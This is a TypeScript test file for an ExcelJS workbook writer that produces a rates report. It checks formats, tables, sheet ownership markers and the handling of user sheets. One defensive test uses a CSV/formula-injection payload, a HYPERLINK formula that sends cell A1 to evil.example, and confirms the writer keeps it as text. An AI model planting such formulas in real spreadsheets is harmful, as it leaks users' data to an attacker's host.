// Round trip: write the Plan with the ExcelJS adapter, read the file back with ExcelJS, and check
// values, formats, conditional formats, tables, the ownership marker and what happens to user sheets.
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { describe, expect, it } from "vitest";
import { buildPlan, type Plan } from "../../src/report";
import { applyPlanToWorkbook, writePlanXlsx } from "../../src/workbook/xlsx/write";
import { makeResults } from "../report/fixture";

async function load(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
}

const HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Click")';

describe("xlsx writer round trip", async () => {
  const plan = buildPlan(makeResults());
  const bytes = await writePlanXlsx(plan);
  const wb = await load(bytes);
  const annex = wb.getWorksheet("Annex B")!;

  it("writes every sheet in order, Annex B active", () => {
    expect(wb.worksheets.map((w) => w.name)).toEqual([
      "Annex B",
      "National rates",
      "Rates ratios",
      "Ratio p-values",
      "Summary",
      "Data quality",
      "Detail",
      "About",
    ]);
    expect(wb.views[0].activeTab).toBe(0);
  });

  it("keeps unrounded values with their number formats", () => {
    // Row 8 is England, row 9 the first area; X-ray in column D. Area 0: 0.8 × 3670.2.
    expect(annex.getCell("E8").value).toBeNull();
    expect(annex.getCell("B8").value).toBe("England");
    expect(annex.getCell("D8").value).toBe(3670.2);
    expect(annex.getCell("D9").value).toBeCloseTo(2936.16, 10);
    expect(annex.getCell("D9").numFmt).toBe("#,##0");
    expect(annex.getCell("E9").value).toBe("▼");
    expect(annex.getCell("A50").value).toBe("QBP");
    const ratios = wb.getWorksheet("Rates ratios")!;
    const male = ratios.getRow(9).getCell(4); // Table 1, Male, CT Scan (m = 2): 0.9631 with ***
    expect(ratios.getRow(9).getCell(1).value).toBe("Male");
    expect(male.value).toBeCloseTo(0.9631, 12);
    expect(male.numFmt).toBe('0.00"***"');
  });

  it("writes a 3-colour scale per measure at the national rate, and the marker rules", () => {
    const cfs = (annex as unknown as { conditionalFormattings: ExcelJS.ConditionalFormattingOptions[] })
      .conditionalFormattings;
    const scale = cfs
      .find((c) => c.ref === "D9:D50")!
      .rules.find((r) => r.type === "colorScale") as ExcelJS.ColorScaleRuleType;
    expect(scale.cfvo).toEqual([{ type: "min" }, { type: "num", value: 3670.2 }, { type: "max" }]);
    expect(scale.color?.map((c) => c.argb)).toEqual(["FF5A8AC6", "FFFFFFFF", "FFF8696B"]);
    // Excel wants distinct priorities: 14 scales + 28 marker rules.
    const priorities = cfs.flatMap((c) => c.rules).map((r) => r.priority);
    expect(new Set(priorities).size).toBe(42);
    const scales = cfs.flatMap((c) => c.rules).filter((r) => r.type === "colorScale");
    expect(scales).toHaveLength(14);
    const exprs = cfs
      .filter((c) => c.ref === "D9:D50")
      .flatMap((c) => c.rules)
      .filter((r) => r.type === "expression") as ExcelJS.ExpressionRuleType[];
    expect(exprs.map((r) => r.formulae?.[0]).sort()).toEqual(['E9="▲"', 'E9="▼"'].sort());
    expect(exprs[0].style?.font?.bold).toBe(true);
    expect(exprs[0].style?.border?.top?.style).toBe("thin");
  });

  it("makes Detail a filterable Excel table, freezes panes, hides gridlines", () => {
    const detail = wb.getWorksheet("Detail")!;
    const t = detail.getTable("stdrates_detail") as unknown as {
      table: { tableRef: string; columns: { name: string }[] };
    };
    expect(t.table.tableRef).toBe(`A5:W${5 + 42 * 14}`); // 17 columns, then 6 overdispersed
    expect(t.table.columns[4].name).toBe("Observed");
    expect(detail.getCell("F6").numFmt).toBe("#,##0.0");
    expect(annex.views[0]).toMatchObject({ state: "frozen", xSplit: 2, ySplit: 8, showGridLines: false });
    expect(annex.pageSetup.orientation).toBe("landscape");
    expect(annex.pageSetup.fitToWidth).toBe(1);
    expect(detail.pageSetup.printTitlesRow).toBe("5:5");
  });

  it("marks each output sheet with a defined name on its A1", () => {
    const names = Object.fromEntries(wb.definedNames.model.map((d) => [d.name, d.ranges]));
    expect(names.stdrates_output_annex_b).toEqual(["'Annex B'!$A$1"]);
    expect(names.stdrates_output_data_quality).toEqual(["'Data quality'!$A$1"]);
    expect(Object.keys(names).filter((n) => n.startsWith("stdrates_output_"))).toHaveLength(8);
  });
});

describe("hostile input text", () => {
  it("keeps an area name beginning with = + - @ as text, never a formula", async () => {
    const names = [HOSTILE, "+44 1234", "-Area", "@SUM(A1)"];
    const plan = buildPlan(makeResults({ areas: 4, names: (i) => names[i] }), {
      sheets: ["annex-b", "detail"],
    });
    const bytes = await writePlanXlsx(plan);
    const wb = await load(bytes);
    const annex = wb.getWorksheet("Annex B")!;
    names.forEach((n, i) => {
      const cell = annex.getCell(`B${9 + i}`);
      expect(cell.value).toBe(n);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    });
    expect(wb.getWorksheet("Detail")!.getCell("B6").value).toBe(HOSTILE);
    // And in the file itself: no formula element anywhere in the sheets.
    const zip = await JSZip.loadAsync(bytes);
    for (const f of Object.keys(zip.files).filter((p) => p.startsWith("xl/worksheets/sheet")))
      expect(await zip.file(f)!.async("string")).not.toMatch(/<f[ >]/);
  });
});

describe("writing into a copy of the user's workbook", () => {
  const plan = buildPlan(makeResults({ areas: 3 }), { sheets: ["annex-b", "about"] });

  async function userWorkbook(): Promise<Uint8Array> {
    const wb = new ExcelJS.Workbook();
    const pop = wb.addWorksheet("Population");
    pop.addRow(["ICB code", "Population"]);
    pop.addRow(["QAA", 1000]);
    const mine = wb.addWorksheet("Annex B");
    mine.getCell("A1").value = "my own notes";
    mine.getCell("C3").value = { formula: "1+1", result: 2 } as ExcelJS.CellFormulaValue;
    return new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
  }

  it("never touches a user's sheet of the same name: the output becomes 'Annex B (2)'", async () => {
    const wb = await load(await writePlanXlsx(plan, await userWorkbook()));
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Population", "Annex B", "Annex B (2)", "About"]);
    expect(wb.getWorksheet("Annex B")!.getCell("A1").value).toBe("my own notes");
    expect(wb.getWorksheet("Annex B")!.getCell("C3").formula).toBe("1+1");
    expect(wb.getWorksheet("Population")!.getCell("B2").value).toBe(1000);
    expect(wb.getWorksheet("Annex B (2)")!.getCell("B8").value).toBe("England");
    expect(wb.definedNames.model.find((d) => d.name === "stdrates_output_annex_b")?.ranges).toEqual([
      "'Annex B (2)'!$A$1",
    ]);
  });

  it("replaces only its own sheets on a rerun", async () => {
    const once = await writePlanXlsx(plan, await userWorkbook());
    const other = buildPlan(makeResults({ areas: 2 }), { sheets: ["annex-b", "about"] });
    const wb = await load(await writePlanXlsx(other, once));
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Population", "Annex B", "Annex B (2)", "About"]);
    expect(wb.getWorksheet("Annex B")!.getCell("A1").value).toBe("my own notes");
    // Two areas now: row 10 (first area + 1) holds the second, row 11 is past the table.
    const out = wb.getWorksheet("Annex B (2)")!;
    expect(out.getCell("A10").value).toBe("QAB");
    expect(out.getCell("A11").value).toBeNull();
    expect(wb.definedNames.model.filter((d) => d.name.startsWith("stdrates_output_"))).toHaveLength(2);
  });

  it("reports the names it used", () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet("About");
    expect(applyPlanToWorkbook(plan, wb).sheetNames).toEqual({ "annex-b": "Annex B", about: "About (2)" });
  });
});

describe("plan features the report does not use yet", () => {
  // A 1×1 red PNG.
  const PNG =
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==";
  const plan: Plan = {
    marker: "stdrates test",
    sheets: [
      {
        key: "annex-b",
        name: "Map",
        blocks: [
          { row: 0, col: 0, values: [[1, 2]], numberFormat: "0.0", font: { bold: true, color: "#FF0000" } },
        ],
        formulas: [{ row: 0, col: 2, formula: "A1+B1", numberFormat: "0.00" }],
        images: [{ base64: PNG, anchor: { row: 2, col: 1, rows: 3, cols: 2 }, title: "A map" }],
        conditionalFormats: [
          {
            type: "cellValue",
            range: { row: 0, col: 0, rows: 1, cols: 2 },
            operator: "greaterThan",
            values: [1],
            format: { fill: "#FFFF00" },
          },
        ],
      },
    ],
  };

  it("writes formulas from the plan, images and cell-value rules", async () => {
    const wb = await load(await writePlanXlsx(plan));
    const ws = wb.getWorksheet("Map")!;
    expect(ws.getCell("C1").formula).toBe("A1+B1");
    expect(ws.getCell("C1").numFmt).toBe("0.00");
    expect(ws.getCell("A1").font?.color?.argb).toBe("FFFF0000");
    const images = ws.getImages();
    expect(images).toHaveLength(1);
    expect(images[0].range.tl.nativeRow).toBe(2);
    expect(images[0].range.tl.nativeCol).toBe(1);
    const media = wb.getImage(Number(images[0].imageId)) as unknown as { buffer: Buffer; extension: string };
    expect(media.extension).toBe("png");
    expect(Buffer.from(media.buffer).toString("base64")).toBe(PNG);
    const rule = (ws as unknown as { conditionalFormattings: ExcelJS.ConditionalFormattingOptions[] })
      .conditionalFormattings[0];
    expect(rule.ref).toBe("A1:B1");
    expect(rule.rules[0]).toMatchObject({ type: "cellIs", operator: "greaterThan", formulae: ["1"] });
  });
});
